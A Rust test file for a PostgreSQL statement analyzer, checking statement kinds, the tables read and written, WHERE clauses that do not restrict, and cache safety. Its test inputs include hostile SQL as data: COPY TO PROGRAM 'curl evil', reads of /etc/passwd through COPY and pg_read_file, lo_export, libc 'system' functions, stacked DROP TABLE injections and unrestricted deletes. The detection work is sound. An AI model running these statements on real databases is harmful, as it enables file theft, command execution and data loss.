//! Table-driven analysis cases, and the PostgreSQL regression suite as a corpus.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use weir_analyze::postgres::analyze_sql;
use weir_analyze::{CopyEndpoint, StatementFacts, StatementKind as K};

fn one(sql: &str) -> StatementFacts {
    let mut v = analyze_sql(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
    assert_eq!(v.len(), 1, "{sql}");
    v.remove(0)
}

fn set(items: &[&str]) -> std::collections::BTreeSet<String> {
    items.iter().map(|s| s.to_string()).collect()
}

#[test]
fn kinds() {
    for (sql, kind) in [
        ("SELECT 1", K::Select),
        ("select * from t", K::Select),
        ("INSERT INTO t VALUES (1)", K::Insert),
        ("UPDATE t SET a = 1 WHERE id = 2", K::Update),
        ("DELETE FROM t WHERE id = 2", K::Delete),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            K::Merge,
        ),
        ("CREATE TABLE x (id int)", K::Ddl),
        ("ALTER TABLE x ADD COLUMN y int", K::Ddl),
        ("CREATE INDEX ON x (id)", K::Ddl),
        ("DROP TABLE x", K::Drop),
        ("DROP DATABASE shop", K::Drop),
        ("TRUNCATE x", K::Truncate),
        ("GRANT SELECT ON x TO bob", K::Privilege),
        ("CREATE ROLE eve SUPERUSER", K::Privilege),
        ("COPY x TO STDOUT", K::Copy),
        ("BEGIN", K::Transaction),
        ("SET search_path = public", K::Set),
        ("SHOW search_path", K::Show),
        ("EXPLAIN SELECT 1", K::Explain),
        ("PREPARE p AS SELECT 1", K::Prepare),
        ("EXECUTE p", K::Execute),
        ("DEALLOCATE p", K::Deallocate),
        ("DECLARE c CURSOR FOR SELECT 1", K::Cursor),
        ("FETCH 10 FROM c", K::Cursor),
        ("LISTEN ch", K::Notify),
        ("DO $$ BEGIN END $$", K::Do),
        ("CALL p()", K::Call),
        ("LOCK TABLE x", K::Lock),
        ("VACUUM x", K::Maintenance),
        ("DISCARD ALL", K::Discard),
        ("LOAD 'plpgsql'", K::Load),
        ("ALTER SYSTEM SET work_mem = '1GB'", K::AlterSystem),
        ("CREATE TABLE y AS SELECT * FROM x", K::Ddl),
        ("SELECT * INTO y FROM x", K::Ddl),
        ("", K::Empty),
        ("  ;  ", K::Empty),
    ] {
        assert_eq!(one(sql).kind, kind, "{sql}");
    }
}

#[test]
fn tables_read_and_written() {
    let f = one("UPDATE app.orders o SET total = 0 FROM customers c WHERE o.customer_id = c.id AND c.email IN (SELECT email FROM blocked)");
    assert_eq!(f.tables_written, set(&["app.orders"]));
    assert_eq!(f.tables_read, set(&["blocked", "customers"]));
    let f = one("INSERT INTO audit_copy SELECT * FROM public.audit");
    assert_eq!(f.tables_written, set(&["audit_copy"]));
    assert_eq!(f.tables_read, set(&["public.audit"]));
    let f = one("SELECT a.x FROM a JOIN b ON a.id = b.id UNION SELECT y FROM c");
    assert_eq!(f.tables_read, set(&["a", "b", "c"]));
    assert!(!f.writes);
    let f = one("DROP TABLE public.customers, orders");
    assert_eq!(f.tables_written, set(&["public.customers", "orders"]));
    let f = one("TRUNCATE a, b");
    assert_eq!(f.tables_written, set(&["a", "b"]));
}

#[test]
fn writes_hidden_in_harmless_looking_statements() {
    // A data-modifying CTE under a SELECT.
    let f = one("WITH gone AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM gone");
    assert_eq!(f.kind, K::Select);
    assert!(f.writes && f.nested_write);
    assert_eq!(f.tables_written, set(&["customers"]));
    // EXPLAIN ANALYZE executes: it is the statement it explains.
    let f = one("EXPLAIN ANALYZE DELETE FROM customers");
    assert_eq!(f.kind, K::Delete);
    assert!(f.explain_analyze && f.writes && !f.has_where);
    // Plain EXPLAIN does not run it.
    let f = one("EXPLAIN DELETE FROM customers");
    assert_eq!(f.kind, K::Explain);
    assert!(!f.writes);
    // PREPARE carries its statement.
    let f = one("PREPARE wipe AS DELETE FROM customers");
    assert_eq!(f.inner.as_ref().unwrap().kind, K::Delete);
    assert_eq!(f.name.as_deref(), Some("wipe"));
    // DO and CALL: effect unknown.
    assert!(one("DO $$ BEGIN DELETE FROM customers; END $$").unknown_effect);
    assert!(one("CALL cleanup()").unknown_effect);
    let f = one("DO LANGUAGE plpython3u $$ import os $$");
    assert!(f.untrusted_language);
    let f = one("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'libc', 'system'");
    assert!(f.untrusted_language);
    // Every statement of a multi-statement string is seen.
    let v = analyze_sql("SELECT 1; DROP TABLE customers; SELECT 2").unwrap();
    assert_eq!(
        v.iter().map(|f| f.kind).collect::<Vec<_>>(),
        vec![K::Select, K::Drop, K::Select]
    );
}

#[test]
fn where_clauses_that_do_not_restrict() {
    for (sql, has, effective) in [
        ("DELETE FROM t", false, false),
        ("DELETE FROM t WHERE true", true, false),
        ("DELETE FROM t WHERE 1 = 1", true, false),
        ("DELETE FROM t WHERE 'a' = 'a'", true, false),
        ("DELETE FROM t WHERE id = id", true, false),
        ("DELETE FROM t WHERE t.id = t.id", true, false),
        (
            "DELETE FROM t WHERE id IS NOT DISTINCT FROM id",
            true,
            false,
        ),
        ("DELETE FROM t WHERE id = 5 OR 1 = 1", true, false),
        ("DELETE FROM t WHERE 1 = 1 AND true", true, false),
        ("DELETE FROM t WHERE $1 = $1", true, false),
        ("DELETE FROM t WHERE EXISTS (SELECT 1)", true, false),
        ("DELETE FROM t WHERE id = 5", true, true),
        ("DELETE FROM t WHERE id = $1", true, true),
        ("DELETE FROM t WHERE id = 5 AND 1 = 1", true, true),
        ("UPDATE t SET a = 1 WHERE a <> a", true, true),
        ("UPDATE t SET a = 1", false, false),
        (
            "UPDATE t SET a = 1 WHERE id IN (SELECT id FROM s)",
            true,
            true,
        ),
    ] {
        let f = one(sql);
        assert_eq!((f.has_where, f.where_effective), (has, effective), "{sql}");
    }
}

#[test]
fn functions_copy_and_settings() {
    let f = one("SELECT pg_read_file('/etc/passwd'), lower(name) FROM t");
    assert_eq!(f.functions, set(&["lower", "pg_read_file"]));
    let f = one("SELECT * FROM t WHERE id = (SELECT pg_catalog.lo_export(1, '/tmp/x'))");
    assert!(f.functions.contains("pg_catalog.lo_export"));
    let f = one("SELECT * FROM dblink('host=x', 'select 1') AS t(a int)");
    assert!(f.functions.contains("dblink"), "{:?}", f.functions);
    let f = one("COPY t TO PROGRAM 'curl evil'");
    assert_eq!(
        f.copy.unwrap().endpoint,
        CopyEndpoint::Program("curl evil".into())
    );
    let f = one("COPY t FROM '/etc/passwd'");
    let c = f.copy.clone().unwrap();
    assert!(c.from);
    assert_eq!(c.endpoint, CopyEndpoint::ServerFile("/etc/passwd".into()));
    assert_eq!(f.tables_written, set(&["t"]));
    let f = one("COPY (SELECT * FROM customers) TO STDOUT");
    assert_eq!(f.copy.unwrap().endpoint, CopyEndpoint::Client);
    assert_eq!(f.tables_read, set(&["customers"]));
    assert_eq!(one("SET ROLE admin").setting.as_deref(), Some("role"));
    assert_eq!(
        one("SET SESSION AUTHORIZATION admin").setting.as_deref(),
        Some("session_authorization")
    );
    assert_eq!(one("COMMIT").transaction, Some("commit"));
    assert!(one("SELECT * FROM t LIMIT 10").has_limit);
}

#[test]
fn parse_failures_and_bad_input_are_errors() {
    assert!(analyze_sql("SELEC 1").is_err());
    assert!(analyze_sql("SELECT 'unterminated").is_err());
    assert!(analyze_sql("SELECT 1\0; DROP TABLE x").is_err());
}

/// The regression suite's statements: never a panic, and the share that classifies to a known
/// kind (goal: 99.5% of the statements that parse).
#[test]
fn regression_corpus_classifies() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpus/postgres-regress");
    let Ok(entries) = std::fs::read_dir(&dir) else {
        eprintln!("corpus not found at {}: skipped", dir.display());
        return;
    };
    let (mut parsed, mut known, mut failed) = (0usize, 0usize, 0usize);
    let mut unknown: std::collections::BTreeMap<String, usize> = Default::default();
    for entry in entries {
        let path = entry.unwrap().path();
        let Ok(text) = std::fs::read_to_string(&path) else {
            continue;
        };
        // psql meta-commands are not SQL.
        let sql: String = text
            .lines()
            .filter(|l| !l.trim_start().starts_with('\\'))
            .collect::<Vec<_>>()
            .join("\n");
        let Ok(stmts) = pg_query::split_with_scanner(&sql) else {
            continue;
        };
        for stmt in stmts {
            match analyze_sql(stmt) {
                Ok(facts) => {
                    for f in facts {
                        parsed += 1;
                        if f.kind == K::Unknown || f.unknown_nested {
                            *unknown.entry(f.node.clone()).or_default() += 1;
                        } else {
                            known += 1;
                        }
                    }
                }
                Err(_) => failed += 1,
            }
        }
    }
    let share = known as f64 / parsed.max(1) as f64 * 100.0;
    eprintln!("regression corpus: {parsed} statements parsed, {known} classified ({share:.2}%), {failed} rejected by the parser; unknown: {unknown:?}");
    assert!(parsed > 10_000, "{parsed}");
    assert!(
        share >= 99.5,
        "{share:.2}% classified; unknown: {unknown:?}"
    );
}

#[test]
fn cache_never_hands_one_statement_another_ones_facts() {
    let a = weir_analyze::Analyzer::new();
    let facts = |sql: &str| a.analyze(sql.as_bytes()).unwrap().statements.to_vec();
    // Warm the cache with restricted deletes, then ask for look-alikes that are not.
    for _ in 0..3 {
        assert!(facts("DELETE FROM t WHERE id = 1")[0].where_effective);
        assert!(facts("DELETE FROM t WHERE id = 2")[0].where_effective);
        assert!(!facts("DELETE FROM t WHERE 1 = 1")[0].where_effective);
        assert!(!facts("DELETE FROM t WHERE 2 = 2")[0].where_effective);
        assert!(!facts("DELETE FROM t WHERE id = id")[0].where_effective);
        assert_eq!(facts("SELECT * FROM t WHERE a = 'x'")[0].kind, K::Select);
        assert_eq!(
            facts("SELECT * FROM t WHERE a = 'x'; DROP TABLE t")[1].kind,
            K::Drop
        );
        assert_eq!(
            facts("SELECT * FROM t WHERE a = 'x''; DROP TABLE t; --'").len(),
            1
        );
        assert!(facts("SELECT pg_read_file('/etc/passwd')")[0]
            .functions
            .contains("pg_read_file"));
        assert!(facts("SELECT lower('/etc/passwd')")[0]
            .functions
            .contains("lower"));
    }
    // The same shape with other constants is a cache hit sharing the facts.
    let x = a
        .analyze(b"SELECT abalance FROM pgbench_accounts WHERE aid = 1")
        .unwrap();
    let y = a
        .analyze(b"SELECT abalance FROM pgbench_accounts WHERE aid = 99")
        .unwrap();
    assert!(std::sync::Arc::ptr_eq(&x.statements, &y.statements));
    assert_eq!(
        &*y.sql,
        "SELECT abalance FROM pgbench_accounts WHERE aid = 99"
    );
}
